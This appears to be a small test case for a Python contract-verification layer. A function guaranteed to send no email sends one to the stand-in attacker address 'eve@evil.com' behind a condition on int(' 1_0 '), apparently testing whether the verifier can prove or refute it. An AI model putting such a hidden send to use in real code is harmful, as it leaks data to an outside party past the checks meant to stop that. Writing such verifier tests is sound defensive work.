# not proved: int(" 1_0 ") is 10
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if int(" 1_0 ") == 10:
        send_email("eve@evil.com", "x")
